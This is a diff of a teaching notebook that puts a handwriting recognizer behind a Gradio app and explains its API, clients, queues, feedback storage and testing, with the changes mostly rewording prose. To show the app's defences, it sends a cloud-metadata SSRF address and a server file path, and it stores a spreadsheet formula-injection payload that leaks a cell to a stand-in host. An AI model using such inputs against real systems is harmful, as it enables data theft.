@@ -16,7 +16,7 @@
 # - how a Python function becomes a page that anybody can use, and what its users see when it fails;
 # - what a browser and a program send, and what base64 costs;
 # - how to call the API by hand: in one step, in two steps with events, with curl and with a client;
-# - what many users at once do to an app, and how it says that it is busy;
+# - what happens to an app when many people use it at once, and how it says that it is busy;
 # - how to use feedback, and how to protect it;
 # - how to test a page, and how to give others access.
 
@@ -26,9 +26,10 @@
 # %% [markdown]
 # ## A model that only you can use
 #
-# `ParagraphTextRecognizer` reads a page, if you have Python, this project and the model file. Most
-# people have none of the three, but everyone has a browser, and every program can speak HTTP. So we
-# put a web app in front of the model, and every page of handwriting takes the same path:
+# `ParagraphTextRecognizer` can read a page if you have Python, this project and the model file.
+# Most people have none of the three, but everyone has a browser, and every program can speak HTTP.
+# So we put a web app in front of the model, and every page of handwriting takes the path that
+# Figure 1 shows.
 
 # %%
 import os
@@ -44,7 +45,7 @@ from text_recognizer.errors import RecognizerError
 from text_recognizer.places import lab_folder
 
 # %%
-os.environ["GRADIO_ANALYTICS_ENABLED"] = "False"  # else Gradio reports each start to its makers
+os.environ["GRADIO_ANALYTICS_ENABLED"] = "False"  # else Gradio phones home at each launch
 os.environ["GRADIO_TEMP_DIR"] = str(lab_folder() / "cache" / "gradio" / "uploads")
 recognizer = packaged_recognizer()
 
@@ -66,9 +67,9 @@ figures.show(
 # %% [markdown]
 # ## 1. A function becomes a page
 #
-# [Gradio](https://www.gradio.app) makes a page from a function, if you say what goes in and what
+# [Gradio](https://www.gradio.app) makes a web page from a function: you say what goes in and what
 # comes out. It makes the form, converts between what a browser sends and what Python wants, and
-# starts a server. `type="filepath"` says that the function wants the path of an image file.
+# starts a server. `type="filepath"` means that the function gets the path of an image file.
 
 # %% tags=["timing"]
 PAGE = "data/pages/show_font_007.jpg"
@@ -88,7 +89,7 @@ _ = tiny.launch(share=False, prevent_thread_lock=True, quiet=True, height=420)
 #
 # Now give it something wrong: press *Submit* without a page. It says "Error" and nothing else.
 # Gradio is right to do so: an exception may contain paths, addresses or keys of the server, so
-# strangers must not see its text. They only see the text of a `gr.Error`. So you decide which
+# strangers must not see its text. They see only the text of a `gr.Error`, so you decide which
 # errors a user should see. The recognizer has already decided: a `RecognizerError` is a sentence
 # for the user, and everything else is a bug.
 
@@ -97,14 +98,14 @@ _ = tiny.launch(share=False, prevent_thread_lock=True, quiet=True, height=420)
 #
 # Difficulty ●●○○○ · Importance ●●●●●
 #
-# Write the function that a page calls: from an image file to the text and a one-line summary. The
-# summary gives the number of lines, and how many of them are doubtful, that is, have a confidence
-# below `doubtful`: `"3 lines, 1 doubtful"`, `"1 line, 0 doubtful"`, or `"no writing found"`. Gradio
-# calls with `None` if no image was chosen.
+# Write the function that the page calls. It takes an image file, and returns the text and a
+# one-line summary. The summary gives the number of lines, and how many of them are doubtful, that
+# is, have a confidence below `doubtful`: `"3 lines, 1 doubtful"`, `"1 line, 0 doubtful"`, or `"no
+# writing found"`. Gradio passes `None` if no image was chosen.
 #
 # Raise a `gr.Error` with a sentence for everything that the user can fix. Pass
-# `print_exception=False`, or each blurred photo leaves a traceback in the server's log. Let bugs
-# pass through.
+# `print_exception=False`, or each blurred photo leaves a traceback in the server's log. Let all
+# other exceptions, which are bugs, pass through.
 
 # %% tags=["exercise"]
 from lab_utils.predictors import Predictor
@@ -116,7 +117,7 @@ def read_page(path: str | None, predictor: Predictor, doubtful: float = 0.5) -> 
     Args:
         path: an image file; None if the user chose none.
         predictor: its `read(path)` gives a reading with `text` and `lines`; each line has a
-            `confidence`. A reading takes a second, so ask once.
+            `confidence`. Reading takes a second, so call it once.
         doubtful: lines with a confidence below this are doubtful.
 
     Raises:
@@ -143,9 +144,9 @@ checks.read_page(read_page)
 # %% [markdown]
 # <details><summary>Hint</summary>
 #
-# Look at `path` first. Then put the one call of `predictor.read` between `try` and `except
-# RecognizerError as error`, and nothing else. `str(error)` is the sentence. In Python, `True`
-# counts as 1, so `sum` counts the lines for which a comparison holds.
+# Look at `path` first. Then put the call of `predictor.read`, and only that, between `try` and
+# `except RecognizerError as error`. `str(error)` is the sentence. In Python, `True` counts as 1, so
+# `sum` counts the lines for which a comparison is true.
 #
 # </details>
 
@@ -161,14 +162,14 @@ for doubtful in (0.5, DOUBTFUL):
 print(text)
 
 # %% [markdown]
-# Are the doubtful lines wrong, and the others right? A high threshold makes people check lines that
-# are right; a low one lets wrong lines pass. The best threshold depends on what a check costs. The
-# app uses the second one, `DOUBTFUL`: a wrong line that nobody checks costs more than checking a
-# right one.
+# Are the doubtful lines really wrong, and the others right? A high threshold makes people check
+# lines that are right; a low one lets wrong lines pass. The best threshold depends on what a check
+# costs. The app uses the second threshold, `DOUBTFUL`: a wrong line that nobody checks costs more
+# than checking a line that is right.
 #
 # The page calls its function with the inputs of the form, and knows nothing about predictors, so
 # `functools.partial` fills in that argument. And `gr.Interface` decides for you what the page looks
-# like and what its endpoint is called. With `gr.Blocks` you decide.
+# like, and by what name programs call the function. With `gr.Blocks`, you decide.
 
 # %% [markdown]
 # ### Exercise 2: Your own page (15 minutes)
@@ -177,8 +178,8 @@ print(text)
 #
 # Build a page with `gr.Blocks`: an image input that gives `read` the path of a file, a button, a
 # text box for the text and a second one for the summary. A click on the button calls `read`.
-# Programs call the same function by its **endpoint**, so give the click `api_name="read_page"`:
-# a name that you chose doesn't change when you rename a function.
+# Programs call the same function through its **endpoint**. Name it with `api_name="read_page"` in
+# the click: a name that you chose doesn't change when you rename the function.
 
 # %% tags=["exercise"]
 from collections.abc import Callable
@@ -206,10 +207,10 @@ checks.build_page(build_page)
 # %% [markdown]
 # <details><summary>Hint</summary>
 #
-# Components that are made inside `with gr.Blocks() as page:` belong to the page, in that order.
+# Components that you make inside `with gr.Blocks() as page:` appear on the page, in that order.
 # `gr.Image` takes `type="filepath"`, as above. A button has `click(function, inputs, outputs,
 # api_name=...)`; the outputs are a list with one component for each value that `read` returns. Call
-# it inside the block as well.
+# `click` inside the `with` block, too.
 #
 # </details>
 
@@ -240,9 +241,9 @@ print(summary, "and the text starts with", text.split("\n")[0])
 #
 # A page is a form, and forms send text or files. The browser *uploads* the file first, byte by
 # byte, and then sends a small JSON message with the name that the server gave it. A program that
-# wants to do all this in one request must put the picture into the JSON. JSON is text and has no
-# bytes, so **base64** writes the bytes as text: it takes three bytes, which are 24 bits, as four
-# groups of six bits, and has one character for each of a group's 64 values.
+# wants to do all this in one request must put the picture into the JSON. JSON is text and can't
+# hold raw bytes, so **base64** writes the bytes as text: it splits three bytes (24 bits) into four
+# groups of six bits, and has one character for each of the 64 values that a group can have.
 
 # %%
 import base64
@@ -269,12 +270,12 @@ columns = ["page", "bytes", "characters in base64", "ratio"]
 figures.show_table(rows, columns, "Table 1. What base64 costs: a third more, whatever the picture.")
 
 # %% [markdown]
-# A third more to send, and both sides hold the text and the bytes in memory at once. For pages of
-# about 100 kB that does not matter; for videos it would.
+# That is a third more to send, and both sides hold the text and the bytes in memory at once. For
+# pages of about 100 kB that does not matter; for videos it would.
 #
 # The text by itself does not say what it is. A **data URI** does: `data:`, the type of the data
 # (its *MIME type*), `;base64,`, and the text. A file name may be wrong about the type, but the
-# bytes show it: each format starts with its own.
+# bytes show it: each format has its own first bytes.
 #
 # | bytes | format | MIME type |
 # |---|---|---|
@@ -290,8 +291,8 @@ figures.show_table(rows, columns, "Table 1. What base64 costs: a third more, wha
 #
 # Gradio's API takes a JSON object with the list `data`: one value for each input of the form. The
 # value of an image input is an object, and its `url` may be a data URI: `{"data": [{"url":
-# "data:image/png;base64,iVBOR..."}]}`. Return this object for an image's bytes, with the type found
-# in the bytes. Don't send bytes of any other kind: raise `RecognizerError` with a sentence.
+# "data:image/png;base64,iVBOR..."}]}`. Return this object for the bytes of an image; the bytes tell
+# you the type. For bytes of any other kind, raise `RecognizerError` with a sentence.
 
 # %% tags=["exercise"]
 import base64
@@ -321,9 +322,9 @@ checks.predict_body(predict_body)
 # %% [markdown]
 # <details><summary>Hint</summary>
 #
-# `bytes` has `startswith`, and `b"\x89PNG"` are the four bytes of the table's first row. Of the
+# `bytes` has `startswith`, and `b"\x89PNG"` is the four bytes in the table's first row. Of the
 # functions in `base64`, one makes plain base64 without line breaks; it gives bytes, and `.decode()`
-# makes them a `str`. A WAV sound also starts with `RIFF`.
+# makes them a `str`. A WAV sound file also starts with `RIFF`.
 #
 # </details>
 
@@ -335,9 +336,9 @@ print(body["data"][0]["url"][:60], "...")
 # %% [markdown]
 # ## 3. An API
 #
-# From here on you use the lab's own app. It is also made with Gradio, and adds a canvas to write
-# on, the lines that were found, feedback and limits. `make_frontend` takes a predictor and returns
-# the app. Run the cell, and read a page.
+# From here on you use the lab's own app. It is also made with Gradio. It adds a canvas to write on,
+# shows the lines that it found, takes feedback, and has limits. `make_frontend` takes a predictor
+# and returns the app. Run the cell, and read a page.
 
 # %% tags=["timing"]
 from lab_utils.app import make_frontend
@@ -356,8 +357,8 @@ figures.show(
 )
 
 # %% [markdown]
-# The page does everything by requests, and other programs can send the same ones. The functions
-# that they may call are the **endpoints**. The app describes them:
+# The page does everything through requests, and other programs can send the same requests. The
+# functions that they may call are the **endpoints**. The app describes them:
 
 # %%
 import json
@@ -376,9 +377,10 @@ figures.show_table(rows, columns, "Table 2. What /gradio_api/info says of the ap
 # These names are a promise. Renaming `/predict` breaks programs that you have never heard of, so
 # choose each endpoint's name yourself (`api_name`); otherwise Gradio takes the function's.
 #
-# A call in one step is a POST to `/gradio_api/run/` and the name. The answer is a JSON object
-# again, with the list `data`: one value for each output. If something is wrong, the **status** (the
-# number at the start of each HTTP answer) says roughly what, and the body says the rest:
+# A call in one step is a POST to `/gradio_api/run/` followed by the endpoint's name. The answer is
+# also a JSON object with a list `data`: one value for each output. If something is wrong, the
+# **status** (the number at the start of each HTTP answer) says roughly what, and the body says the
+# rest:
 #
 # | status | body | meaning |
 # |---|---|---|
@@ -388,8 +390,8 @@ figures.show_table(rows, columns, "Table 2. What /gradio_api/info says of the ap
 # | 502, 504, any other | a page in HTML, or nothing | something between you and the app answered |
 # | 200 | a page in HTML | a log-in page, a hotel's Wi-Fi, the wrong address |
 #
-# A client must never take one of the others for a text, or show its user a traceback from a JSON
-# parser.
+# Only the first row holds a text. A client must never take any of the other answers for a text, or
+# show its user a traceback from a JSON parser.
 
 # %% [markdown]
 # ### Exercise 4: Call the API by hand (15 minutes)
@@ -397,10 +399,10 @@ figures.show_table(rows, columns, "Table 2. What /gradio_api/info says of the ap
 # Difficulty ●●●○○ · Importance ●●●●○
 #
 # Post a body as JSON and return the text from the answer, `data[0]`. From status 400 on, raise
-# `RecognizerError`: with the answer's own sentence if `error` holds one, else with a sentence of
-# yours that names the status. Also raise `RecognizerError` if there is no server, no answer within
-# `timeout` seconds, or the reply isn't a valid answer: it isn't HTTP, breaks off, isn't JSON, or
-# `data[0]` isn't a text.
+# `RecognizerError`: with the answer's own sentence if `error` holds one, otherwise with a sentence
+# of your own that names the status. Also raise `RecognizerError` if there is no server, no answer
+# within `timeout` seconds, or the reply isn't a valid answer: it isn't HTTP, breaks off, isn't
+# JSON, or `data[0]` isn't a text.
 
 # %% tags=["exercise"]
 import json
@@ -451,10 +453,11 @@ checks.ask(ask)
 #
 # `urllib.request.Request(url, data, headers)` with `data` (bytes) is a POST; `urlopen` takes it and
 # a `timeout`. From status 400 on it raises `urllib.error.HTTPError`, which can be read like the
-# answer that it is, and has a `code`. `HTTPError` is an `OSError`, like all that goes wrong on the
-# way, so catch it first. What isn't HTTP, and an answer that breaks off, raise
-# `http.client.HTTPException`. `json.load` raises `ValueError`; what is missing in an answer shows
-# as `KeyError`, `IndexError` (both are `LookupError`s) or `TypeError`. JSON's `null` is `None`.
+# answer that it is, and has a `code`. `HTTPError` is an `OSError`, like every failure of the
+# network, so catch it first. An answer that isn't HTTP, or that breaks off, raises
+# `http.client.HTTPException`. `json.load` raises `ValueError`; if something is missing in an
+# answer, you get `KeyError`, `IndexError` (both are `LookupError`s) or `TypeError`. JSON's `null`
+# is `None`.
 #
 # </details>
 
@@ -464,10 +467,10 @@ print(ask(url + RUN, predict_body(photo)))
 
 # %% [markdown]
 # The same text as in exercise 1, this time over HTTP. (Your first app may have read a letter
-# differently: Gradio's image input encodes a picture again before the function gets it. The lab's
-# app passes the bytes on unchanged.)
+# differently: Gradio's image input re-encodes a picture before the function gets it. The lab's app
+# passes the bytes on unchanged.)
 #
-# Now four wrong requests: half a photo, nothing at all, an address, and a file of the server.
+# Now four wrong requests: half a photo, nothing at all, an address, and a file on the server.
 # Before you run the second cell: which of them does the app refuse, and why?
 
 # %%
@@ -475,7 +478,7 @@ wrong = {
     "half a photo": predict_body(photo[: len(photo) // 2]),
     "nothing": {"data": [None]},
     "an address": {"data": [{"url": "http://169.254.169.254/latest/meta-data/"}]},
-    "a file of the server": {"data": [{"path": "/etc/hostname"}]},
+    "a file on the server": {"data": [{"path": "/etc/hostname"}]},
 }
 
 # %%
@@ -492,7 +495,7 @@ for name, sent in wrong.items():
 # sees them, as it refuses requests of more than 28 MB before they are decoded
 # ([`middleware.py`](../lab_utils/middleware.py), [`routes.py`](../lab_utils/app/routes.py)).
 #
-# Other clients do what you did. `curl` takes the body from a file:
+# Other clients send the same request. `curl` takes the body from a file:
 
 # %%
 Path(".lab/body.json").write_text(json.dumps(predict_body(photo)))
@@ -510,8 +513,8 @@ print(json.loads(Path(".lab/answer.json").read_text())["data"])
 # print(answer.json()["data"][0])
 # ```
 #
-# Where even a data URI is too much work, in a shell script or on a microcontroller, the second
-# endpoint takes plain base64 as a string:
+# If even a data URI is too much work, say in a shell script or on a microcontroller, use the second
+# endpoint, which takes plain base64 as a string:
 
 # %%
 bare = {"data": [base64.b64encode(photo).decode()]}
@@ -553,8 +556,8 @@ for line in events(predict_body(photo)) + events(wrong["half a photo"]):
 
 # %% [markdown]
 # These are **server-sent events**, a plain text format of the web (WHATWG HTML, section 9.2). A
-# line `event:` names the kind, a line `data:` holds JSON, and an empty line ends the event. Four
-# kinds come:
+# line `event:` names the kind, a line `data:` holds JSON, and an empty line ends the event. There
+# are four kinds:
 #
 # | event | data | meaning |
 # |---|---|---|
@@ -571,9 +574,9 @@ for line in events(predict_body(photo)) + events(wrong["half a photo"]):
 # Difficulty ●●●○○ · Importance ●●●○○
 #
 # Follow a stream of lines and return the data of the event `complete`, as soon as that event is
-# whole: the connection may stay open. At the event `error` raise `RecognizerError` with its
-# sentence, or with one of yours. A stream that ends without either of them is also an error: the
-# app was stopped, or the network failed.
+# whole: the connection may stay open. At the event `error`, raise `RecognizerError` with its
+# sentence, or with one of your own if it has none. A stream that ends without either of them is
+# also an error: the app was stopped, or the network failed.
 
 # %% tags=["exercise"]
 import json
@@ -613,8 +616,8 @@ checks.final_data(final_data)
 # %% [markdown]
 # <details><summary>Hint</summary>
 #
-# Keep two variables, the event's name and its data, and look line by line: `b"event: x"` sets the
-# first, `b"data: y"` the second, and at an empty line the event is whole: look at its name.
+# Keep two variables, the event's name and its data, and go through the lines. `b"event: x"` sets
+# the first and `b"data: y"` the second; at an empty line the event is whole, so look at its name.
 # `str.partition(": ")` splits a line at the *first* colon only; texts have colons, too.
 #
 # </details>
@@ -644,11 +647,11 @@ client.close()
 # %% [markdown]
 # ## 5. Many at once
 #
-# A page takes some tenths of a second on two cores. If eight people come at once, the worst answer
+# A page takes a few tenths of a second on two cores. If eight people come at once, the worst answer
 # is to serve them all at the same time: memory for eight pages, and each reading takes eight times
 # as long. Gradio has a **queue** for that: `concurrency_limit` says how many calls of a function
 # run at once (by default 1), and `queue(max_size=...)` how many may wait. Which calls does that
-# hold for? Here is a function that takes as long as you say, behind a plain Gradio app with a limit
+# apply to? Here is a function that takes as long as you say, behind a plain Gradio app with a limit
 # of one, and six programs that call it in one step. Before you run the last of the three cells: how
 # many of the six calls start at once?
 
@@ -665,7 +668,7 @@ started, release = queue.Queue(), threading.Event()
 
 
 def held(image: object) -> str:
-    """Reads nothing, until it is released."""
+    """Reads nothing, and waits until it is released."""
     started.put(image)
     release.wait(60)
     return "read"
@@ -678,7 +681,7 @@ with ThreadPoolExecutor(6) as users:
     answers = [users.submit(ask, plain_url + RUN, predict_body(photo)) for _ in range(6)]
     for _ in answers:
         started.get(timeout=60)
-    print("6 calls, none has ended, and all have started")
+    print("6 calls: all have started, and none has ended")
     release.set()
 
 # %% [markdown]
@@ -695,7 +698,7 @@ from text_recognizer.paragraph_text_recognizer import PageReading
 
 
 def held_reading(image: object) -> PageReading:
-    """What the app asks a predictor for: here, a page of one word in no line."""
+    """What the app gets from a predictor: here, a page with one word and no lines."""
     return PageReading(held(image), lines=[], seconds=0.0, width=640, height=480)
 
 
@@ -727,18 +730,18 @@ plain.close(verbose=False)
 # Someone points a camera at a desk and sends a picture every second. Most of them show an empty
 # desk. The recognizer correctly reads nothing there, but each picture takes as long as a page, and
 # a model service that is paid per request costs money. So check first. But be careful: a check that
-# is too strict refuses faint pencil, and its writer won't know what to do. Reading a blank page
-# costs half a second; refusing a real page costs you a user.
+# is too strict refuses faint pencil, and the person who wrote it won't know what to do. Reading a
+# blank page costs half a second; refusing a real page costs you a user.
 
 # %% [markdown]
 # ### Exercise 6: Is there anything on it? (15 minutes)
 #
 # Difficulty ●●●○○ · Importance ●●○○○
 #
-# Say whether a page is blank. Photos of empty paper differ in their light (a shadow lies on some),
-# in the colour of the paper, and in grain, the noise of the camera. Writing may be faint, there may
-# be little of it, and chalk is *lighter* than the board. But only writing has pixels that differ
-# from their surroundings by far more than the grain.
+# Say whether a page is blank. Photos of empty paper differ in their light (some have a shadow), in
+# the colour of the paper, and in grain, the noise of the camera. Writing may be faint, there may be
+# little of it, and chalk is *lighter* than the board. But only writing has pixels that differ from
+# their surroundings by far more than the grain.
 
 
 # %% tags=["exercise"]
@@ -770,8 +773,9 @@ checks.is_blank(is_blank)
 #
 # `page.filter(ImageFilter.BoxBlur(15))` gives each pixel the mean of its neighbourhood, which
 # follows the light. Look at how far each pixel is from that, in either direction. Most pixels are
-# paper, so the *median* of these distances is the grain. A pixel is part of a stroke if it is
-# several times as far off, and at least some gray levels; a page is blank if next to no pixels are.
+# paper, so the *median* of these distances is the grain. A pixel is part of a stroke if its
+# distance is several times the grain, and at least a few gray levels. A page is blank if almost
+# none of its pixels are part of a stroke.
 #
 # </details>
 
@@ -782,7 +786,7 @@ checks.is_blank(is_blank)
 pages = draw.photos(Image.open("data/pages/show_font_008.jpg"))
 figures.show(
     draw.judged(pages, [is_blank(page) for page in pages.values()]),
-    "Figure 3. A page and its empty back in several lights, and what is_blank says of each.",
+    "Figure 3. A page and its empty back in different light, and what is_blank says of each.",
     "Three photos with writing, clear, faint and half in a shadow, and two of empty paper, one of "
     "them half in a shadow, each with its verdict.",
     width=780,
@@ -833,7 +837,7 @@ for name in ("back, shadow", "page, faint"):
 # Anything that neither the page nor the model needs to know about fits here: a cache, a counter, a
 # second model for comparison. The model can also move out. `RemotePredictor(url)` has the same two
 # methods and sends the page to a model service, perhaps on another machine with a GPU. It retries
-# where that helps, and says so if nothing answers:
+# if that helps, and says so if nothing answers:
 
 # %%
 from lab_utils.predictors import RemotePredictor
@@ -854,12 +858,12 @@ except RecognizerError as error:
 #
 # The most useful readings are those that went wrong for real people, and only they know which ones.
 # So the page has a form: *Wrong? Tell us*. Gradio has one built in, called **flagging**
-# (`flagging_mode="manual"`), which adds a line to a CSV file. But flagged through the API, the
-# whole data URI goes into the CSV, and no spreadsheet opens cells of a megabyte. So the lab's app
-# keeps its own ([`feedback.py`](../lab_utils/app/feedback.py)): the image is a file, named by its
-# SHA-256, and the table holds this name. And what people type is later opened in a spreadsheet,
-# where a cell that starts with `=` is a formula. Before you run the second cell: how many images
-# will the folder hold, and what will become of the formula?
+# (`flagging_mode="manual"`), which adds a line to a CSV file. But if a page is flagged through the
+# API, the whole data URI goes into the CSV, and no spreadsheet opens cells of a megabyte. So the
+# lab's app stores feedback itself ([`feedback.py`](../lab_utils/app/feedback.py)): the image is a
+# file, named by its SHA-256, and the table holds this name. And what people type is later opened in
+# a spreadsheet, where a cell that starts with `=` is a formula. Before you run the second cell: how
+# many images will the folder hold, and what will become of the formula?
 
 # %%
 import csv
@@ -873,13 +877,13 @@ feedback = FeedbackFolder(DEMO)
 
 # %%
 right = "was the age of\nwisdom, it\nwas the age of\nfoolishness,"
-reading = right.replace("foolishness", "foolrstness")  # say that it was read so
+reading = right.replace("foolishness", "foolrstness")  # suppose it was read like this
 feedback.add(photo, reading, corrected=right)
 feedback.add(photo, reading, corrected='=HYPERLINK("http://example.com/?" & A1, "a prize")')
 with feedback.table.open(newline="") as file:
     rows = [[row[1][:8], *row[2:]] for row in csv.reader(file)]
 figures.show_table(
-    rows[1:], rows[0], "Table 3. What the file holds; without times, and with short names."
+    rows[1:], rows[0], "Table 3. What the file holds (times left out, names shortened)."
 )
 print("images:", len(list((DEMO / "images").iterdir())))
 
@@ -887,11 +891,11 @@ print("images:", len(list((DEMO / "images").iterdir())))
 # Two rows, and one image, since equal bytes have equal names. The formula got an apostrophe, which
 # makes it text.
 #
-# What is it good for?
+# What is feedback good for?
 #
 # - **Finding** kinds of pages that fail: sort by what is wrong before you collect more of it.
-# - **Evaluating**: page and corrected text are a label. But flagged pages are not a random sample
-#   of all pages: an error rate on them says nothing about the others.
+# - **Evaluating**: a page with its corrected text is a labelled example. But flagged pages are not
+#   a random sample of all pages: an error rate on them says nothing about the others.
 # - **Training**, after someone has checked them: people correct carelessly, and some as a joke.
 #
 # Feedback needs protection. Handwriting is personal: it shows who wrote, and often to whom. Say
@@ -913,7 +917,7 @@ with urllib.request.urlopen(url) as response:
 # %% [markdown]
 # But a page that loads may still show nothing. What a user sees is made by JavaScript, which only a
 # browser runs. **Playwright** drives one without a window: it finds elements by what people see or
-# by an id, and waits until they are there. This is such a test; the lab's are in
+# by an id, and waits until they are there. Here is such a test; the lab's own are in
 # [`test_app_browser.py`](../tests/test_app_browser.py).
 #
 # ```python
@@ -930,7 +934,7 @@ with urllib.request.urlopen(url) as response:
 #     browser.close()
 # ```
 #
-# So there are three layers, and each finds what the one below can't: the function (exercise 1,
+# So there are three layers, and each finds what the one before it can't: the function (exercise 1,
 # fast, all cases), the API (a few requests, as in section 3), the page (one or two ways through
 # it). If you test all cases in a browser, you wait for minutes and repair tests for days.
 
@@ -946,21 +950,21 @@ with urllib.request.urlopen(url) as response:
 #
 # - **To try it**, do nothing: `server_name` is 127.0.0.1, and only this machine can reach it.
 # - **To show it for an hour**, launch with `share=True`: Gradio gives it a public address for a
-#   week at most, through a server of theirs. Everybody who has the address can use the app.
+#   week at most, through one of its servers. Everybody who has the address can use the app.
 # - **To show it on Colab**, launch with `share=False` and see it in the notebook. By default,
 #   Gradio sets `share` to true on Colab; the lab's app doesn't.
 # - **To let a few people use it**, add `auth=("anna", "a long password")`, and HTTPS in front of
-#   it: else the password travels in clear text. You can't revoke a shared password for just one
-#   person.
+#   it; otherwise the password travels in clear text. You can't revoke a shared password for just
+#   one person.
 # - **To let many use it**, put the model into a separate service
 #   ([notebook 06](06_model_service.ipynb)) and the app on a real host.
 #
 # [Notebook 07](07_public_url.ipynb) shows these ways, and who can read along on each.
 #
-# Whatever you choose: anyone who can reach the page can also reach the API, with all that you tried
-# in section 3. Limits belong in the app, not in the page's JavaScript.
+# Whatever you choose: anyone who can reach the page can also reach the API, and try everything that
+# you tried in section 3. Limits belong in the app, not in the page's JavaScript.
 #
-# Finally, close what you opened. A kernel that stops does this by itself.
+# Finally, close what you opened. This also happens by itself when the kernel stops.
 
 # %%
 for app in (tiny, frontend, careful):
@@ -979,14 +983,15 @@ except RecognizerError as error:
 # - A client looks at the status, the error's sentence and the answer's form, and has a time limit.
 # - One step is one request; two steps bring events, which end with `complete` or `error`.
 # - A limit must apply to every way in. A full app says so at once, with 503.
-# - A predictor is two methods, so checks go in between and the model can move out.
+# - A predictor is any object with two methods, so you can put a check in front of the model, or
+#   move the model out.
 # - Feedback needs care: images in files, no formulas, and no handwriting kept without a purpose.
 
 # %% [markdown]
 # ## What to try next
 #
 # - Open the app on your phone: which address must `lab app` listen on, what does 127.0.0.1 mean on
-#   the phone, and who else is in your network?
+#   the phone, and who else is on your network?
 # - Write a predictor that remembers the text of pages it has seen (by their SHA-256), and put it
 #   behind the app. How large may it grow? What does section 7 say about it?
 # - Send the canvas's picture of your own handwriting as feedback, and find it below
